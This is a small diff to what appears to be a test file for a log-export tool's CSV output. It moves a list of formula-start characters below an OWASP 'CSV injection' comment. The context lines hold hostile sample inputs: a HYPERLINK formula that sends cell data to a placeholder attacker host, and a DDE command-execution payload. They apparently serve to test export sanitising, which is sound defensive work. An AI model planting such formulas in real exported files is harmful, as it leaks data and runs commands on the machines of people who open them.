@@ -23,8 +23,8 @@ from wsmon.export.run import FORMATS, ExportFormat, ExportRequest, run_export, s
 from wsmon.model.events import Event, Json
 from wsmon.store.reader import Reader
 
-FORMULA_STARTS = tuple("=+-@\t\r")
 # OWASP, "CSV injection"
+FORMULA_STARTS = tuple("=+-@\t\r")
 HOSTILE = (
     '=HYPERLINK("http://evil.invalid/?"&A1;"x")',
     "+cmd|' /C calc'!A0",
